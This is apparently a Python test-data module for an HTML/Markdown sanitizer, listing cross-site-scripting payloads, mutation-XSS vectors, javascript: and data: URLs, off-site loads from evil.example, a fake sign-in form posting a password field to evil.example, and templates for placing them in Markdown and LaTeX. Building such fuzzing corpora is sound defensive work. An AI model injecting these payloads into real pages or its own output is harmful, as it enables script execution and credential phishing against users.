"""Texts that try to become script, to load something, or to leave their place in the page."""

from __future__ import annotations

HTML = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script>alert(1)
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="https://evil.example/a.png">
<img srcset="https://evil.example/a.png 1x">
<image href="https://evil.example/a.png">
<picture><source srcset="https://evil.example/a.png"></picture>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><semantics><annotation encoding="application/x-tex">x</annotation></semantics></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=evil>
<video><source onerror=alert(1)></video>
<video poster=https://evil.example/a.png></video>
<audio src=https://evil.example/a.mp3 autoplay>
<body onload=alert(1)>
<body background=https://evil.example/a.png>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel=stylesheet href=https://evil.example/a.css>
<link rel=prefetch href=https://evil.example/>
<style>@import "https://evil.example/a.css";</style>
<style>body{background:url(https://evil.example/a.png)}</style>
<div style="background:url(https://evil.example/a.png)">x</div>
<div style="position:fixed;inset:0">x</div>
<p onclick=alert(1) onmouseover=alert(1)>x</p>
<a href="javascript:alert(1)">x</a>
<a href="https://evil.example" ping="https://evil.example/p" onclick=alert(1)>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href=" &#1; javascript:alert(1)">x</a>
<form action=https://evil.example><input name=password><button>Sign in</button></form>
<button formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<select><option></select><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<title><script>alert(1)</script></title>
<textarea><script>alert(1)</script></textarea>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<!--><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
</div></article><script>alert(1)</script>
</code></pre><script>alert(1)</script>
</code></pre></div><img src=x onerror=alert(1)>
"><script>alert(1)</script>
' onmouseover='alert(1)
" onmouseover="alert(1)" x="
`<script>`</script>
<copy-button onclick=alert(1) for="password">x</copy-button>
<reply-stream data-generation="1"></reply-stream>
<span class="message message--admin" id="app" dir="rtl" hx-get="/admin/" hx-trigger="load">x</span>
<div hx-on:click="alert(1)" data-hx-post="/chats/">x</div>
<div contenteditable popover id=x>x</div>
<slot name=x></slot><portal src=https://evil.example></portal>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;alert(1)
\<script>alert(1)\</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<img/src="x"/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<a/href="j&Tab;a&Tab;v&Tab;asc&NewLine;ript&colon;alert(1)">x</a>
＜script＞alert(1)＜/script＞
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
""".strip().splitlines()

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java%0ascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "javascript:alert`1`",
    "javascript:https://example.com",
    "vbscript:msgbox(1)",
    "VBSCRIPT:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "filesystem:https://example.com/x",
    "view-source:https://example.com",
    "about:blank",
    "chrome://settings",
    "ftp://example.com/",
    "ws://example.com/",
    "tel:1",
    "intent://x#Intent;end",
    "ms-office:ofe|u|https://evil.example",
    "feed:javascript:alert(1)",
    "jar:https://evil.example!/x",
    "//evil.example/x",
    "/admin/",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "#top",
    "?next=//evil.example",
    "https:evil",
    "http:/evil.example",
    "https:\\\\evil.example",
    "https://",
    'http://evil.example" onmouseover="alert(1)',
    "http://evil.example' onmouseover='alert(1)",
    "http://evil.example><script>alert(1)</script>",
    "http://evil.example/<script>",
    "http://evil.example/`onmouseover=alert(1)",
    "https://evil.example/\u202egnp.exe",
    'mailto:a@b.example?subject="onclick=alert(1)',
    "https://[::1",
    "https://a\x00b.example/",
]

# Where an address may stand.
ADDRESS_PLACES = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "![x](<{}>)",
    "[![x]({})]({})",
    "<{}>",
    "{}",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}> 'title'",
    "![x][r]\n\n[r]: {}",
    "| a |\n| - |\n| [x]({}) |",
    "$\\href{{{}}}{{x}}$",
    "<a href={}>x</a>",
]

# Where HTML may stand.
HTML_PLACES = [
    "{}",
    "text {} text",
    "> {}",
    "- {}",
    "# {}",
    "**{}**",
    "`{}`",
    "    {}",
    "```\n{}\n```",
    "```{}\nx\n```",
    "~~~ {}\nx\n~~~",
    "```html\n{}\n```",
    "```js\n{}\n```",
    "| a |\n| - |\n| {} |",
    "[{}](https://example.com)",
    '[x](https://example.com "{}")',
    "![{}](https://example.com/a.png)",
    "[x][{}]\n\n[{}]: https://example.com",
    "$\\text{{{}}}$",
    "$$\n{}\n$$",
    "\\(\\mathrm{{{}}}\\)",
    "$\\color{{{}}}x$",
    "$\\hspace{{{}}}$",
    "$\\operatorname{{{}}}$",
    "$\\class{{{}}}{{x}}$",
    "$\\style{{{}}}{{x}}$",
    "$\\begin{{{}}}x\\end{{{}}}$",
    "$\\unicode{{{}}}$",
    "$\\verb|{}|$",
]
